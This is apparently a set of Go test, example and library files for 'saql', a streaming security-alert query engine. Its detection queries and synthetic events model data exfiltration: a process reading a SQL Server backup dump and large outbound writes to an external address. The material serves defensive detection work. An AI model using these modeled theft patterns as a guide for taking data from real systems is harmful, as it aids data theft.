		t.Errorf("alerts differ:\nfrom log:\n  %s\nfrom hand-built events:\n  %s",
			strings.Join(fromLog, "\n  "), strings.Join(fromHand, "\n  "))
	}
	// Both families fired.
	joined := strings.Join(fromLog, "\n")
	for _, q := range []string{"exfil-chain", "exfil-volume"} {
		if !strings.Contains(joined, "query="+q) {
			t.Errorf("query %s raised no alert:\n%s", q, joined)
		}
	}
}

// TestSourceStatsSurfaceInEngineStats checks the per-source counters
// aggregate into Engine.Stats.
func TestSourceStatsSurfaceInEngineStats(t *testing.T) {
	eng := New(WithShards(1))
	if err := eng.AddQuery("any", `proc p read file f return p, f`); err != nil {
		t.Fatal(err)
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	src, err := OpenLogFile(sampleLogPath, WithFormat("auditd"), WithSourceAgent("db-1"))
	if err != nil {
		t.Fatal(err)
	}
	if err := src.Run(context.Background(), eng); err != nil {
		t.Fatal(err)
	}
	defer eng.Close()

	st := eng.Stats()
	// A finished source detaches (Sources counts live sources only); its
	// counters below must survive the detach in the engine's totals.
	if st.Sources != 0 {
		t.Errorf("Sources = %d, want 0 after Run returned", st.Sources)
	}
	if st.SourceEvents != 13 || st.DecodeErrors != 1 {
		t.Errorf("SourceEvents=%d DecodeErrors=%d, want 13/1", st.SourceEvents, st.DecodeErrors)
	}
	if st.SourceLines == 0 {
		t.Error("SourceLines not surfaced")
	}
	if st.Events != st.SourceEvents {
		t.Errorf("engine accepted %d events, source decoded %d", st.Events, st.SourceEvents)
	}
}

// TestSourceRequiresRunningEngine pins the lifecycle contract.
func TestSourceRequiresRunningEngine(t *testing.T) {
	eng := New()
	src, err := OpenLogFile(sampleLogPath, WithFormat("auditd"))
	if err != nil {
		t.Fatal(err)
	}
	if err := src.Run(context.Background(), eng); err != ErrNotRunning {
		t.Fatalf("Run on unstarted engine = %v, want ErrNotRunning", err)
	}
}
