package saql

// Tests for the concurrent ingestion API: lifecycle states, shard
// placement, and — most importantly — alert-for-alert equivalence between
// the sharded runtime (Start/Submit/Subscribe) and the legacy serial
// Process path. All tests here must be race-clean (go test -race).

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestLifecycleErrors(t *testing.T) {
	eng := New(WithShards(2))
	if err := eng.Submit(&Event{}); !errors.Is(err, ErrNotRunning) {
		t.Errorf("Submit before Start = %v, want ErrNotRunning", err)
	}
	if err := eng.SubmitBatch([]*Event{{}}); !errors.Is(err, ErrNotRunning) {
		t.Errorf("SubmitBatch before Start = %v, want ErrNotRunning", err)
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatalf("Start: %v", err)
	}
	if err := eng.Start(context.Background()); !errors.Is(err, ErrAlreadyRunning) {
		t.Errorf("second Start = %v, want ErrAlreadyRunning", err)
	}
	if _, err := eng.Run(context.Background(), nil); !errors.Is(err, ErrAlreadyRunning) {
		t.Errorf("Run while running = %v, want ErrAlreadyRunning", err)
	}
	if err := eng.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if err := eng.Close(); err != nil {
		t.Fatalf("second Close: %v", err)
	}
	if err := eng.Submit(&Event{}); !errors.Is(err, ErrClosed) {
		t.Errorf("Submit after Close = %v, want ErrClosed", err)
	}
	if err := eng.Start(context.Background()); !errors.Is(err, ErrClosed) {
		t.Errorf("Start after Close = %v, want ErrClosed", err)
	}
	if err := eng.AddQuery("late", `proc p read file f return p`); !errors.Is(err, ErrClosed) {
		t.Errorf("AddQuery after Close = %v, want ErrClosed", err)
	}
	// Subscribing to a closed engine yields an already-closed stream.
	sub := eng.Subscribe(4, Block)
	if _, ok := <-sub.C; ok {
		t.Error("subscription to closed engine delivered an alert")
	}
	sub.Close() // must not panic
}

func TestStartContextCancelCloses(t *testing.T) {
	eng := New(WithShards(2))
	ctx, cancel := context.WithCancel(context.Background())
	if err := eng.Start(ctx); err != nil {
		t.Fatal(err)
	}
	cancel()
	deadline := time.Now().Add(5 * time.Second)
	for {
		if err := eng.Submit(&Event{Time: demoStart}); errors.Is(err, ErrClosed) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("engine did not close after context cancellation")
		}
		time.Sleep(time.Millisecond)
	}
}

func TestQueryPlacement(t *testing.T) {
	cases := []struct {
		name string
		src  string
		want Placement
	}{
		{"multievent-rule", `proc p write file f as e1
proc q read file f as e2
with e1 -> e2
return p, q`, PlacePinned},
		{"single-pattern-rule", `proc p write ip i as e
alert e.amount > 10
return p`, PlaceByEvent},
		{"distinct-rule", `proc p read file f return distinct p, f`, PlacePinned},
		{"grouped-stateful", `proc p write ip i as e #time(1 min)
state ss { amt := sum(e.amount) } group by p
alert ss.amt > 10
return p`, PlaceByGroup},
		{"global-stateful", `proc p write ip i as e #time(1 min)
state ss { amt := sum(e.amount) }
alert ss.amt > 10
return ss.amt`, PlacePinned},
		{"outlier", `proc p write ip i as e #time(1 min)
state ss { amt := sum(e.amount) } group by i.dstip
cluster(points=all(ss.amt), distance="ed", method="DBSCAN(5, 2)")
alert cluster.outlier
return i.dstip`, PlacePinned},
		{"grouped-invariant", `proc p start proc c as e #time(1 min)
state ss { kids := set(c.exe_name) } group by p
invariant[3] {
  known := empty_set
  known = known union ss.kids
}
alert |ss.kids diff known| > 0
return p`, PlaceByGroup},
	}
	eng := New()
	for _, c := range cases {
		if err := eng.AddQuery(c.name, c.src); err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		got, ok := eng.QueryPlacement(c.name)
		if !ok || got != c.want {
			t.Errorf("%s: placement = %v (%v), want %v", c.name, got, ok, c.want)
		}
	}
}

// TestRemoveQueryConsistency is the regression test for the RemoveQuery
// state inconsistency: the registry entry must only disappear when the
// scheduler-side removal succeeds, so the registry and scheduler never
// disagree and removed names are always re-addable.
func TestRemoveQueryConsistency(t *testing.T) {
	const base = `proc p write ip i as e #time(1 min)
state ss { amt := sum(e.amount) } group by p
return p, ss.amt`
	eng := New()
	// Build one master–dependent group: the dependent adds a stricter
	// alert threshold, so removing the master exercises the scheduler's
	// promotion path.
	if err := eng.AddQuery("master", base); err != nil {
		t.Fatal(err)
	}
	if err := eng.AddQuery("dep", base+"\nalert ss.amt > 1000"); err != nil {
		t.Fatal(err)
	}
	if eng.RemoveQuery("missing") {
		t.Error("removing an unknown query reported success")
	}
	if !eng.RemoveQuery("master") {
		t.Fatal("failed to remove master query")
	}
	// After a successful removal both registry and scheduler must agree:
	// the name is gone from every view and immediately re-addable.
	if _, ok := eng.QueryKind("master"); ok {
		t.Error("removed query still in registry")
	}
	for m := range eng.Groups() {
		if m == "master" {
			t.Error("removed query still scheduled")
		}
	}
	if err := eng.AddQuery("master", base); err != nil {
		t.Errorf("re-adding a removed query failed: %v", err)
	}
	if eng.Stats().Queries != 2 {
		t.Errorf("query count = %d, want 2", eng.Stats().Queries)
	}
	// Double removal reports false and leaves the survivor intact.
	if !eng.RemoveQuery("dep") || eng.RemoveQuery("dep") {
		t.Error("double removal inconsistency")
	}
	if _, ok := eng.QueryKind("master"); !ok {
		t.Error("surviving query lost")
	}
}

func TestRemoveQueryWhileRunning(t *testing.T) {
	eng := New(WithShards(3))
	if err := eng.AddQuery("q1", `proc p write ip i as e
alert e.amount > 100
return p`); err != nil {
		t.Fatal(err)
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer eng.Close()
	if !eng.RemoveQuery("q1") {
		t.Error("RemoveQuery while running failed")
	}
	if eng.RemoveQuery("q1") {
		t.Error("double remove while running succeeded")
	}
	if err := eng.AddQuery("q1", `proc p write ip i as e
alert e.amount > 100
return p`); err != nil {
		t.Errorf("re-add while running: %v", err)
	}
}

// concurrencyWorkload builds an order-tolerant event set: every event falls
// inside one long window, so aggregation is commutative and the serial
// baseline is comparable no matter how concurrent submitters interleave.
// It spreads activity over many processes (group-by keys) so every shard
// owns work.
func concurrencyWorkload(procs, eventsPerProc int) []*Event {
	var evs []*Event
	for p := 0; p < procs; p++ {
		proc := Process(fmt.Sprintf("worker-%03d.exe", p), int32(1000+p))
		for k := 0; k < eventsPerProc; k++ {
			amount := float64(100 + p*10 + k)
			if p%7 == 0 {
				amount += 1e6 // the noisy groups that must alert
			}
			evs = append(evs, &Event{
				Time:    demoStart.Add(time.Duration(p*eventsPerProc+k) * time.Millisecond),
				AgentID: "db-1",
				Subject: proc,
				Op:      OpWrite,
				Object:  NetConn("10.0.0.2", 1433, fmt.Sprintf("10.1.%d.%d", p/200, p%200), 443),
				Amount:  amount,
			})
		}
	}
	return evs
}

var concurrencyQueries = []struct{ name, src string }{
	// By-group placement: per-process sum over one big window.
	{"grouped-sum", `proc p write ip i as e #time(1 h)
state ss { amt := sum(e.amount)
           n := count(e) } group by p
alert ss.amt > 1000000
return p, ss.amt, ss.n`},
	// By-event placement: stateless per-event threshold rule.
	{"big-write", `proc p write ip i as e
alert e.amount > 1000000
return p, e.amount`},
	// Pinned placement: one global group needing the total stream.
	{"global-volume", `proc p write ip i as e #time(1 h)
state ss { total := sum(e.amount) }
alert ss.total > 5000000
return ss.total`},
}

// alertCountKey buckets alerts by query and group for the determinism
// comparison (per-event rule alerts bucket by their returned values).
func alertCountKey(a *Alert) string {
	vals := make([]string, 0, len(a.Values))
	for _, nv := range a.Values {
		vals = append(vals, nv.Name+"="+nv.Val.String())
	}
	return a.Query + "|" + a.GroupKey + "|" + strings.Join(vals, ",")
}

func countAlerts(alerts []*Alert) map[string]int {
	out := map[string]int{}
	for _, a := range alerts {
		out[alertCountKey(a)]++
	}
	return out
}

// TestConcurrentSubmitMatchesSerial drives the sharded runtime from
// multiple submitter goroutines with two subscribers attached and checks
// that, per group-by key, the delivered alert multiset matches the legacy
// serial Process path over the same events.
func TestConcurrentSubmitMatchesSerial(t *testing.T) {
	const (
		procs     = 120
		perProc   = 40
		shards    = 4
		goroutine = 6
	)
	events := concurrencyWorkload(procs, perProc)

	// Serial baseline.
	serial := New()
	for _, q := range concurrencyQueries {
		if err := serial.AddQuery(q.name, q.src); err != nil {
			t.Fatal(err)
		}
	}
	var want []*Alert
	for _, ev := range events {
		want = append(want, serial.Process(ev)...)
	}
	want = append(want, serial.Flush()...)
	if len(want) == 0 {
		t.Fatal("serial baseline produced no alerts; workload is broken")
	}

	// Concurrent run: multiple submitters, two subscribers.
	eng := New(WithShards(shards))
	for _, q := range concurrencyQueries {
		if err := eng.AddQuery(q.name, q.src); err != nil {
			t.Fatal(err)
		}
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	subA := eng.Subscribe(256, Block)
	subB := eng.Subscribe(256, Block)
	collect := func(sub *AlertSubscription, out *[]*Alert, done *sync.WaitGroup) {
		defer done.Done()
		for a := range sub.C {
			*out = append(*out, a)
		}
	}
	var gotA, gotB []*Alert
	var consumers sync.WaitGroup
	consumers.Add(2)
	go collect(subA, &gotA, &consumers)
	go collect(subB, &gotB, &consumers)

	var submitters sync.WaitGroup
	for g := 0; g < goroutine; g++ {
		submitters.Add(1)
		go func(g int) {
			defer submitters.Done()
			// Interleave: submitter g takes every goroutine-th slice,
			// mixing single Submit and SubmitBatch.
			for i := g * 50; i < len(events); i += goroutine * 50 {
				end := i + 50
				if end > len(events) {
					end = len(events)
				}
				if g%2 == 0 {
					if err := eng.SubmitBatch(events[i:end]); err != nil {
						t.Errorf("SubmitBatch: %v", err)
						return
					}
					continue
				}
				for _, ev := range events[i:end] {
					if err := eng.Submit(ev); err != nil {
						t.Errorf("Submit: %v", err)
						return
					}
				}
			}
		}(g)
	}
	submitters.Wait()
	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}
	consumers.Wait()

	if st := eng.Stats(); st.Events != int64(len(events)) {
		t.Errorf("events accepted = %d, want %d", st.Events, len(events))
	}
	wantCounts := countAlerts(want)
	for name, got := range map[string][]*Alert{"subscriber A": gotA, "subscriber B": gotB} {
		gotCounts := countAlerts(got)
		if len(gotCounts) != len(wantCounts) {
			t.Errorf("%s: %d distinct alert keys, serial baseline has %d",
				name, len(gotCounts), len(wantCounts))
		}
		for key, n := range wantCounts {
			if gotCounts[key] != n {
				t.Errorf("%s: alert %q count = %d, want %d", name, key, gotCounts[key], n)
			}
		}
		for key := range gotCounts {
			if _, ok := wantCounts[key]; !ok {
				t.Errorf("%s: unexpected alert %q", name, key)
			}
		}
	}
}

// alertIdentity is the full-fidelity comparison key used by the kill-chain
// equivalence test: everything except Detected (wall clock) and delivery
// order must match the serial engine exactly.
func alertIdentity(a *Alert) string {
	return a.EventTime.Format(time.RFC3339Nano) + "|" + alertCountKey(a)
}

// TestShardedKillChainMatchesSerial is the end-to-end acceptance check:
// Start → SubmitBatch → Subscribe over the APT-scenario conformance stream
// delivers exactly the alert set of the legacy serial Process path, for all
// 8 demo queries (rule, time-series, invariant, and outlier models across
// pinned, by-group, and by-event placements).
func TestShardedKillChainMatchesSerial(t *testing.T) {
	events, scenario := buildDemoStream(t, 20*time.Minute, 8*time.Minute)
	queries := scenario.DemoQueries(30*time.Second, 5)

	serial := New()
	for _, nq := range queries {
		if err := serial.AddQuery(nq.Name, nq.SAQL); err != nil {
			t.Fatal(err)
		}
	}
	var want []*Alert
	for _, ev := range events {
		want = append(want, serial.Process(ev)...)
	}
	want = append(want, serial.Flush()...)
	if len(want) == 0 {
		t.Fatal("serial baseline produced no alerts")
	}

	eng := New(WithShards(4))
	for _, nq := range queries {
		if err := eng.AddQuery(nq.Name, nq.SAQL); err != nil {
			t.Fatal(err)
		}
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	sub := eng.Subscribe(1024, Block)
	var got []*Alert
	var consumer sync.WaitGroup
	consumer.Add(1)
	go func() {
		defer consumer.Done()
		for a := range sub.C {
			got = append(got, a)
		}
	}()
	// One submitter preserves the stream's total order, so even
	// order-sensitive (pinned) queries must agree exactly.
	for i := 0; i < len(events); i += 512 {
		end := i + 512
		if end > len(events) {
			end = len(events)
		}
		if err := eng.SubmitBatch(events[i:end]); err != nil {
			t.Fatal(err)
		}
	}
	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}
	consumer.Wait()

	toSorted := func(alerts []*Alert) []string {
		out := make([]string, 0, len(alerts))
		for _, a := range alerts {
			out = append(out, alertIdentity(a))
		}
		sort.Strings(out)
		return out
	}
	wantIDs, gotIDs := toSorted(want), toSorted(got)
	if len(wantIDs) != len(gotIDs) {
		t.Errorf("alert count: sharded=%d serial=%d", len(gotIDs), len(wantIDs))
	}
	for i := 0; i < len(wantIDs) && i < len(gotIDs); i++ {
		if wantIDs[i] != gotIDs[i] {
			t.Fatalf("alert sets diverge at #%d:\n  sharded: %s\n  serial:  %s", i, gotIDs[i], wantIDs[i])
		}
	}
}

// TestHandleLifecycleRace hammers the control plane — Register, Pause,
// Resume, Update (with and without state carry), per-query Subscribe,
// Close, and Apply — from many goroutines while submitters keep the event
// stream flowing. It asserts nothing about alert contents (the conformance
// tests do); under -race it proves the handle API is data-race free against
// live ingestion.
func TestHandleLifecycleRace(t *testing.T) {
	const (
		operators = 4
		rounds    = 20
	)
	eng := New(WithShards(4), WithBackpressure(DropNewest), WithIngestQueue(256))
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}

	stop := make(chan struct{})
	var feeders, wg sync.WaitGroup

	// Submitters: keep events flowing under every control operation.
	for s := 0; s < 3; s++ {
		feeders.Add(1)
		go func(s int) {
			defer feeders.Done()
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				ev := &Event{
					Time:    demoStart.Add(time.Duration(s*1000+i) * time.Millisecond),
					AgentID: "h",
					Subject: Process(fmt.Sprintf("p%d.exe", i%17), int32(i%17)),
					Op:      OpWrite,
					Object:  NetConn("10.0.0.1", 1, "10.0.0.2", 2),
					Amount:  float64(i % 1000),
				}
				if err := eng.Submit(ev); err != nil {
					if !errors.Is(err, ErrClosed) {
						t.Errorf("Submit: %v", err)
					}
					return
				}
			}
		}(s)
	}

	src := `proc p write ip i as e #time(1 min)
state ss { amt := sum(e.amount) } group by p
alert ss.amt > 100000
return p, ss.amt`
	tightened := strings.Replace(src, "> 100000", "> 500000", 1)
	reshaped := strings.Replace(src, "#time(1 min)", "#time(2 min)", 1)

	// Operators: full handle lifecycle per round, on disjoint names.
	for o := 0; o < operators; o++ {
		wg.Add(1)
		go func(o int) {
			defer wg.Done()
			for i := 0; i < rounds; i++ {
				name := fmt.Sprintf("q-%d-%d", o, i)
				h, err := eng.Register(name, src, WithLabel("op", name))
				if err != nil {
					t.Errorf("Register(%s): %v", name, err)
					return
				}
				sub := h.Subscribe(4, DropNewest)
				if err := h.Pause(); err != nil {
					t.Errorf("Pause(%s): %v", name, err)
				}
				if err := h.Resume(); err != nil {
					t.Errorf("Resume(%s): %v", name, err)
				}
				if err := h.Update(tightened, CarryWindowState()); err != nil {
					t.Errorf("Update(%s): %v", name, err)
				}
				if err := h.Update(reshaped); err != nil {
					t.Errorf("reshape Update(%s): %v", name, err)
				}
				if _, err := h.Stats(); err != nil {
					t.Errorf("Stats(%s): %v", name, err)
				}
				if err := h.Close(); err != nil {
					t.Errorf("Close(%s): %v", name, err)
				}
				if _, open := <-sub.C; open {
					// Drain the remainder; the channel must close.
					for range sub.C {
					}
				}
				if !errors.Is(sub.Err(), ErrQueryClosed) {
					t.Errorf("sub.Err(%s) = %v", name, sub.Err())
				}
			}
		}(o)
	}

	// One reconciler: re-Apply alternating querysets against its own names.
	wg.Add(1)
	go func() {
		defer wg.Done()
		setA, setB := NewQuerySet(), NewQuerySet()
		if err := setA.Add("managed-a", src); err != nil {
			t.Error(err)
			return
		}
		if err := setB.Add("managed-a", tightened); err != nil {
			t.Error(err)
			return
		}
		if err := setB.Add("managed-b", src); err != nil {
			t.Error(err)
			return
		}
		for i := 0; i < rounds; i++ {
			set := setA
			if i%2 == 1 {
				set = setB
			}
			if _, err := eng.Apply(context.Background(), set); err != nil {
				t.Errorf("Apply: %v", err)
				return
			}
		}
	}()

	// Let the operators finish, then stop the submitters and close.
	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(60 * time.Second):
		t.Fatal("lifecycle hammer deadlocked")
	}
	close(stop)
	feeders.Wait()
	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}
	// The last reconciliation (round rounds-1, odd) applied setB: exactly
	// its two managed queries survive the hammer.
	if n := eng.Stats().Queries; n != 2 {
		t.Errorf("surviving queries = %d, want 2", n)
	}
}

// TestDropNewestBackpressure checks the drop-counting overflow policy: a
// tiny queue with no consumer pressure must never block Submit.
func TestDropNewestBackpressure(t *testing.T) {
	eng := New(WithShards(1), WithIngestQueue(1), WithBackpressure(DropNewest))
	if err := eng.AddQuery("q", `proc p write ip i as e
alert e.amount > 0
return p`); err != nil {
		t.Fatal(err)
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 10000; i++ {
		ev := &Event{Time: demoStart.Add(time.Duration(i) * time.Millisecond),
			AgentID: "h", Subject: Process("a.exe", 1), Op: OpWrite,
			Object: NetConn("10.0.0.1", 1, "10.0.0.2", 2), Amount: 1}
		if err := eng.Submit(ev); err != nil {
			t.Fatalf("Submit with DropNewest returned %v", err)
		}
	}
	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}
	st := eng.Stats()
	if st.Events+st.Dropped != 10000 {
		t.Errorf("accepted %d + dropped %d != 10000", st.Events, st.Dropped)
	}
}

// TestFlushWhileRunning checks the flush barrier: everything submitted
// before Flush is reflected in the returned alerts.
func TestFlushWhileRunning(t *testing.T) {
	eng := New(WithShards(3))
	if err := eng.AddQuery("sum", `proc p write ip i as e #time(1 min)
state ss { amt := sum(e.amount) } group by p
alert ss.amt > 50
return p, ss.amt`); err != nil {
		t.Fatal(err)
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer eng.Close()
	for i := 0; i < 100; i++ {
		ev := &Event{Time: demoStart.Add(time.Duration(i) * time.Second),
			AgentID: "h", Subject: Process(fmt.Sprintf("p%d.exe", i%10), int32(i%10)),
			Op: OpWrite, Object: NetConn("10.0.0.1", 1, "10.0.0.2", 2), Amount: 100}
		if err := eng.Submit(ev); err != nil {
			t.Fatal(err)
		}
	}
	alerts := eng.Flush()
	if len(alerts) == 0 {
		t.Error("Flush on a running engine returned no alerts")
	}
	if st := eng.Stats(); st.Events != 100 {
		t.Errorf("events = %d, want 100", st.Events)
	}
}
