package saql_test

import (
	"context"
	"fmt"
	"time"

	"saql"
)

// The concurrent ingestion API: Start the sharded runtime, submit a batch,
// and receive alerts through a subscription. Close drains the queue,
// flushes open windows, and ends the subscription.
func ExampleEngine_Subscribe() {
	eng := saql.New(saql.WithShards(2))
	_, err := eng.Register("dump-read", `
proc p1["%sqlservr.exe"] write file f1["%backup1.dmp"] as evt1
proc p2 read file f1 as evt2
with evt1 -> evt2
return p1, f1, p2`)
	if err != nil {
		fmt.Println(err)
		return
	}
	if err := eng.Start(context.Background()); err != nil {
		fmt.Println(err)
		return
	}
	sub := eng.Subscribe(16, saql.Block)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for alert := range sub.C {
			fmt.Println(alert)
		}
	}()

	t0 := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)
	err = eng.SubmitBatch([]*saql.Event{
		{Time: t0, AgentID: "db-1", Subject: saql.Process("sqlservr.exe", 1680),
			Op: saql.OpWrite, Object: saql.File(`C:\db\backup1.dmp`), Amount: 5e7},
		{Time: t0.Add(time.Second), AgentID: "db-1", Subject: saql.Process("sbblv.exe", 3112),
			Op: saql.OpRead, Object: saql.File(`C:\db\backup1.dmp`), Amount: 5e7},
	})
	if err != nil {
		fmt.Println(err)
		return
	}
	if err := eng.Close(); err != nil {
		fmt.Println(err)
		return
	}
	<-done
	// Output:
	// ALERT [rule] query=dump-read at=09:00:01.000 p1=sqlservr.exe f1=C:\db\backup1.dmp p2=sbblv.exe
}

// The query-handle lifecycle: Register returns the handle, Pause/Resume
// gate the query's event flow with state retained, and Update hot-swaps
// the source in place at a consistent point of the stream.
func ExampleEngine_Register() {
	eng := saql.New()
	h, err := eng.Register("big-write", `
proc p write ip i as e
alert e.amount > 1000000
return p, e.amount`,
		saql.WithLabel("severity", "high"))
	if err != nil {
		fmt.Println(err)
		return
	}

	t0 := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)
	submit := func(sec int, amount float64) {
		for _, a := range eng.Process(&saql.Event{
			Time: t0.Add(time.Duration(sec) * time.Second), AgentID: "db-1",
			Subject: saql.Process("sqlservr.exe", 1680), Op: saql.OpWrite,
			Object: saql.NetConn("10.0.3.10", 1433, "203.0.113.77", 8443), Amount: amount,
		}) {
			fmt.Println(a)
		}
	}

	submit(0, 5e6) // alerts
	_ = h.Pause()
	submit(1, 5e6) // skipped: the query is paused
	_ = h.Resume()
	_ = h.Update(`
proc p write ip i as e
alert e.amount > 10
return p, e.amount`) // live tuning: tighten the threshold
	submit(2, 500) // alerts under the new threshold
	fmt.Println("severity:", h.Labels()["severity"])
	// Output:
	// ALERT [rule] query=big-write at=09:00:00.000 p=sqlservr.exe e.amount=5e+06
	// ALERT [rule] query=big-write at=09:00:02.000 p=sqlservr.exe e.amount=500
	// severity: high
}

// The declarative layer: Apply reconciles a queryset document (named
// queries plus shared params) against the running registry and reports
// what changed. Re-applying an identical set is a no-op.
func ExampleEngine_Apply() {
	eng := saql.New()
	set, err := saql.ParseQuerySet(`
param limit = 1000000

query big-write {
  proc p write ip i as e
  alert e.amount > $limit
  return p, e.amount
}`)
	if err != nil {
		fmt.Println(err)
		return
	}
	rep, _ := eng.Apply(context.Background(), set)
	fmt.Println(rep)
	rep, _ = eng.Apply(context.Background(), set)
	fmt.Println(rep)
	// Output:
	// 1 added (big-write), 0 unchanged
	// no changes (1 unchanged)
}

// The smallest complete use of the legacy serial path: one rule-based query
// over two events, alerts returned synchronously.
//
// Process remains supported on a never-started engine; new code should
// prefer Start + Submit + Subscribe (see ExampleEngine_Subscribe).
func ExampleEngine_Process() {
	eng := saql.New()
	err := eng.AddQuery("dump-read", `
proc p1["%sqlservr.exe"] write file f1["%backup1.dmp"] as evt1
proc p2 read file f1 as evt2
with evt1 -> evt2
return p1, f1, p2`)
	if err != nil {
		fmt.Println(err)
		return
	}

	t0 := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)
	events := []*saql.Event{
		{Time: t0, AgentID: "db-1", Subject: saql.Process("sqlservr.exe", 1680),
			Op: saql.OpWrite, Object: saql.File(`C:\db\backup1.dmp`), Amount: 5e7},
		{Time: t0.Add(time.Second), AgentID: "db-1", Subject: saql.Process("sbblv.exe", 3112),
			Op: saql.OpRead, Object: saql.File(`C:\db\backup1.dmp`), Amount: 5e7},
	}
	for _, ev := range events {
		for _, alert := range eng.Process(ev) {
			fmt.Println(alert)
		}
	}
	// Output:
	// ALERT [rule] query=dump-read at=09:00:01.000 p1=sqlservr.exe f1=C:\db\backup1.dmp p2=sbblv.exe
}

// Validate checks a query without registering it — what the command-line UI
// does on every keystroke-submitted query.
func ExampleValidate() {
	err := saql.Validate(`proc p start proc q as e return zz`)
	fmt.Println(err)
	// Output:
	// semantic error at 1:33: unknown identifier "zz"
}

// A time-series query over sliding windows: alert when a window's average
// network volume spikes above the 3-window moving average.
func ExampleEngine_Flush() {
	eng := saql.New()
	_ = eng.AddQuery("sma", `
proc p write ip i as evt #time(1 min)
state[3] ss { avg_amount := avg(evt.amount) } group by p
alert (ss[0].avg_amount > (ss[0].avg_amount + ss[1].avg_amount + ss[2].avg_amount) / 3) && (ss[0].avg_amount > 10000)
return p, ss[0].avg_amount`)

	t0 := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)
	conn := saql.NetConn("10.0.3.10", 1433, "203.0.113.77", 8443)
	for minute, amount := range []float64{1000, 1200, 900, 500000} {
		eng.Process(&saql.Event{
			Time:    t0.Add(time.Duration(minute) * time.Minute),
			AgentID: "db-1",
			Subject: saql.Process("sqlservr.exe", 1680),
			Op:      saql.OpWrite, Object: conn, Amount: amount,
		})
	}
	// End of stream: close the open spike window.
	for _, alert := range eng.Flush() {
		fmt.Println(alert)
	}
	// Output:
	// ALERT [time-series] query=sma at=09:04:00.000 group=sqlservr.exe p=sqlservr.exe ss[0].avg_amount=500000
}
