package saql

// First-class query handles and the declarative queryset layer. Register
// returns a *QueryHandle owning one query's lifecycle: Pause/Resume gate
// its event ingestion, Update hot-swaps its source at a consistent point of
// the stream (optionally carrying sliding-window state), Subscribe opens a
// per-query alert stream, and Close retires it. Engine.Apply reconciles a
// whole QuerySet — a parsed multi-query document with shared parameters —
// against the running registry, reusing the handles of unchanged queries.

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"strings"

	"saql/internal/engine"
	"saql/internal/parser"
	"saql/internal/sema"
)

// Handle lifecycle errors.
var (
	// ErrQueryClosed is returned by operations on a closed QueryHandle, and
	// reported by AlertSubscription.Err when the subscription ended because
	// its query handle closed.
	ErrQueryClosed = errors.New("saql: query closed")
	// ErrCarryIncompatible is returned by Update when CarryWindowState was
	// requested but the replacement cannot adopt the old query's state: the
	// window spec, state block, history depth, invariant block, or shard
	// placement changed.
	ErrCarryIncompatible = errors.New("saql: cannot carry window state: window/state spec or placement changed")
)

// QueryOption configures a query at Register time.
type QueryOption func(*queryConfig)

type queryConfig struct {
	labels  map[string]string
	compile CompileOptions
}

// WithLabel attaches an informational key/value label to the query's handle
// (rule pack, owner, severity, ticket — whatever the control plane needs).
// Repeatable; later values win per key.
func WithLabel(key, value string) QueryOption {
	return func(c *queryConfig) {
		if c.labels == nil {
			c.labels = map[string]string{}
		}
		c.labels[key] = value
	}
}

// WithQueryCompileOptions overrides the engine-wide compile options for this
// query only. Updates through the handle keep using these options.
func WithQueryCompileOptions(opts CompileOptions) QueryOption {
	return func(c *queryConfig) { c.compile = opts }
}

// UpdateOption configures a hot-swap performed by QueryHandle.Update.
type UpdateOption func(*updateConfig)

type carryMode uint8

const (
	carryNever carryMode = iota
	carryIfCompatible
	carryAlways
)

type updateConfig struct {
	carry carryMode
}

// CarryWindowState makes Update move the old query's sliding-window state —
// open windows, watermark, per-group history rings, invariant training
// state, and (for an unchanged return clause) the `return distinct`
// suppression table — into the replacement, instead of starting fresh. The
// carry requires an unchanged window spec, state block, history depth,
// invariant block, and shard placement (alert thresholds, pattern
// constraints, and return clauses are free to change: the live-tuning
// case); otherwise Update fails with ErrCarryIncompatible and the old query
// keeps running.
func CarryWindowState() UpdateOption {
	return func(c *updateConfig) { c.carry = carryAlways }
}

// ---------------------------------------------------------------------------
// QueryHandle
// ---------------------------------------------------------------------------

// QueryHandle is the owner of one registered query. All methods are safe
// for concurrent use with each other, with event ingestion, and with other
// handles; control operations take effect at a consistent point of the
// event stream, so a sharded engine behaves exactly like a serial one that
// performed the operation between two events. A handle whose query has been
// closed (by Close, RemoveQuery, or an Apply retirement) reports
// ErrQueryClosed from its mutating methods; a name re-registered later
// belongs to a new handle, never to a closed one.
type QueryHandle struct {
	eng    *Engine
	name   string
	labels map[string]string
}

// Name returns the query's registered name.
func (h *QueryHandle) Name() string { return h.name }

// Labels returns a copy of the labels attached at Register time. Labels
// survive Update and Close.
func (h *QueryHandle) Labels() map[string]string {
	out := make(map[string]string, len(h.labels))
	for k, v := range h.labels {
		out[k] = v
	}
	return out
}

// recLocked resolves the handle's live record; the caller holds e.mu.
func (h *QueryHandle) recLocked() (*queryRecord, error) {
	rec := h.eng.reg[h.name]
	if rec == nil || rec.handle != h {
		return nil, ErrQueryClosed
	}
	return rec, nil
}

// Closed reports whether the handle's query has been retired.
func (h *QueryHandle) Closed() bool {
	h.eng.mu.Lock()
	defer h.eng.mu.Unlock()
